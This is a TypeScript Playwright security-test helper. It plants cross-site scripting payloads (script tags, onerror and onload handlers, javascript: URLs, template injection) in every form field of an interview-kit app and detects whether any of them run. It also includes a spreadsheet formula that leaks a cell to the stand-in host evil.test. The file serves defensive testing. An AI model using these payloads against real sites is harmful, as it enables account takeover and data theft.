import { expect, type Page } from '@playwright/test';

/** What every payload tries to do; the spec's pages must never let it happen. */
export const XSS_FLAG = 'window.__xss=1';

export const PAYLOADS = {
  script: `<script>${XSS_FLAG}</script>`,
  img: `<img src=x onerror="${XSS_FLAG}">`,
  svg: `"><svg onload="${XSS_FLAG}">`,
  jsUrl: `javascript:${XSS_FLAG}`,
  template: `{{constructor.constructor('${XSS_FLAG}')()}}`,
  // A spreadsheet formula: harmless in a page, it must simply read as text.
  formula: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
} as const;

const { script, img, svg, jsUrl, template, formula } = PAYLOADS;

/**
 * One value per user-writable field, each a short label plus a payload, so a
 * failing text check names the field. Emails keep to what both the API and
 * the web forms accept: a quoted local part without spaces.
 */
export const PLANTED = {
  guideFileName: `guide-<img src=x onerror=${XSS_FLAG}>.md`,
  guideTitle: `Payload guide ${script}`,
  guideDescription: `Guide description ${img}`,
  guideAuthor: `Author ${template}`,
  guideVertical: `Vertical ${svg}`,
  guideTag: script,
  profileSection: `Certifications ${script}`,
  profileDetail: `Detail ${svg}`,
  profileNote: `<div onmouseover="${XSS_FLAG}">${img}</div>`,
  question1: `Prompt ${img} and [a link](${jsUrl})?`,
  question2: `Prompt ${template} ${svg}?`,
  answerDescription: `Answer ${script} and [click me](${jsUrl}).`,
  answerStep: `Do ${template} now.`,
  answerFormula: formula,
  answerRawBlock: script,
  followUp1: `Follow-up ${img}?`,
  followUp2: `Follow-up [link](${jsUrl}) ${svg}?`,

  rubricName: `Rubric ${script}`,
  rubricDescription: `Rubric description ${img}`,
  competency1: `Depth ${img}`,
  competency1Description: `Depth description ${template}`,
  competency2: `Clarity ${svg}`,
  competency2Description: formula,
  anchors: [`Anchor ${script}`, `Anchor ${img}`, `Anchor ${svg}`, formula],
  scaleTop: `Strong ${script}`,

  kitName: `Kit ${svg}`,
  kitRole: `Kit role ${template}`,
  kitInstructions: `Instructions ${script}\n${formula}\n[link](${jsUrl})`,

  candidateName: `Casey ${img}`,
  candidateEmail: `"<svg/onload=${XSS_FLAG}>"@evil.test`,
  candidateRole: `Role ${svg}`,
  candidateNotes: `Notes ${script}\n${template}\n${formula}`,

  memberName: `Ivy ${script}`,
  memberEmail: `"<img src=x onerror=${XSS_FLAG}>"@evil.test`,
  pendingInviteEmail: `"${script}"@evil.test`,
  timeOffNote: `Away ${img}`,

  pastLocation: jsUrl,
  upcomingLocation: `https://meet.example.test/x"><svg/onload=${XSS_FLAG}>`,
  rescheduleReason: `Moved ${img}`,
  cancelReason: `Cancelled ${script} ${formula}`,

  overallNote: `Overall ${script}\n${template}`,
  questionNote: `Question note ${img}`,
  customFollowUp: `Custom ${svg}`,
  evidence1: `Evidence ${img}`,
  evidence2: `Evidence ${svg}`,
  summary: `Summary ${script} ${template}`,
  amendReason: `Amend ${img} ${formula}`,
  amendedSummary: `Amended ${svg}`,
  decisionRationale: `Rationale ${script} ${formula}`,
} as const;

/** A guide with payloads in its front matter, profile, prompts, answers (raw HTML blocks, `javascript:` links) and follow-ups. */
export const PAYLOAD_GUIDE = `---
term: ${JSON.stringify(PLANTED.guideTitle)}
description: ${JSON.stringify(PLANTED.guideDescription)}
category: "Technical"
vertical: ${JSON.stringify(PLANTED.guideVertical)}
pubDate: 2025-04-07
author: ${JSON.stringify(PLANTED.guideAuthor)}
tags: [${JSON.stringify(PLANTED.guideTag)}, ${JSON.stringify(formula)}]
---

## Interview Preparation Guide for Payload Position

### Overview

#### ${PLANTED.profileSection}

1. **Certificate:**
   - ${PLANTED.profileDetail}

${PLANTED.profileNote}

### Interview Questions and Answers

#### Technical Questions

##### Question 1: ${PLANTED.question1}

- **Answer:**
  - **Description:** ${PLANTED.answerDescription}
  - **Process:**
    1. **Step one:** ${PLANTED.answerStep}
    2. **Formula:** ${PLANTED.answerFormula}
  - **Example:** <${jsUrl}> as an autolink.
  - **Raw block:**

    ${script}
    ${img}

  - **Follow-up points:**
    - ${PLANTED.followUp1}
    - ${PLANTED.followUp2}

##### Question 2: ${PLANTED.question2}

- **Answer:**
  - **Description:** Plain answer with raw HTML blocks below.

${script}

<iframe src="${jsUrl}"></iframe>

  - **Follow-up points:**
    - Why ${formula}?
    - And \`${script}\` in code?
`;

// Runs in the page before any of its scripts: the flag's setter reports to
// the console, so a payload that runs is seen even if a reload follows.
const FLAG_TRAP = `(() => {
  let value;
  Object.defineProperty(window, '__xss', {
    configurable: false,
    get: () => value,
    set: (next) => { value = next; console.error('PANELWISE_XSS_FIRED ' + location.pathname); },
  });
})();`;

// Looks for markup a payload would leave behind if it were rendered as HTML:
// its elements, event-handler attributes or javascript: URLs in any attribute
// that navigates or loads.
const DOM_SCAN = `(() => {
  const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background'];
  const findings = [];
  const show = (element) => element.outerHTML.slice(0, 200);
  for (const element of document.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (tag === 'script' && !element.src && (element.textContent || '').includes('__xss')) {
      findings.push('inline <script> from a payload: ' + show(element));
    }
    if (tag === 'img' && element.getAttribute('src') === 'x') {
      findings.push('<img src=x> from a payload: ' + show(element));
    }
    if (tag === 'iframe' || tag === 'object' || tag === 'embed' || (tag === 'svg' && element.hasAttribute('onload'))) {
      findings.push('<' + tag + '> element: ' + show(element));
    }
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) {
        findings.push('event-handler attribute ' + name + ': ' + show(element));
      }
      const value = attribute.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.includes(name) && value.startsWith('javascript:')) {
        findings.push('javascript: URL in ' + name + ': ' + show(element));
      }
      if (name === 'srcdoc') {
        findings.push('srcdoc attribute: ' + show(element));
      }
    }
  }
  return findings;
})()`;

export type XssReport = {
  /** The value of window.__xss; undefined unless a payload ran. */
  flag: unknown;
  /** Pages where the flag was set, kept across reloads. */
  fired: string[];
  dialogs: string[];
  /** Payload markup found in the DOM. */
  findings: string[];
};

export type XssWatch = {
  inspect(): Promise<XssReport>;
  /** Fails (softly, so every page is reported) when a payload ran, opened a dialog or left markup. */
  expectClean(pageName: string): Promise<void>;
};

/**
 * Watches a page for any sign that a payload ran: the flag set (trapped
 * across reloads), a dialog (alert/confirm/prompt), or payload markup in the DOM.
 */
export async function watchForXss(page: Page): Promise<XssWatch> {
  const fired: string[] = [];
  const dialogs: string[] = [];
  page.on('console', (message) => {
    if (message.text().startsWith('PANELWISE_XSS_FIRED')) {
      fired.push(message.text());
    }
  });
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(FLAG_TRAP);

  const inspect = async (): Promise<XssReport> => ({
    flag: await page.evaluate('window.__xss'),
    fired: [...fired],
    dialogs: [...dialogs],
    findings: await page.evaluate<string[]>(DOM_SCAN),
  });

  return {
    inspect,
    async expectClean(pageName: string): Promise<void> {
      expect
        .soft(
          await inspect(),
          `payload markup or execution on ${pageName} (${page.url()})`,
        )
        .toEqual({ flag: undefined, fired: [], dialogs: [], findings: [] });
    },
  };
}
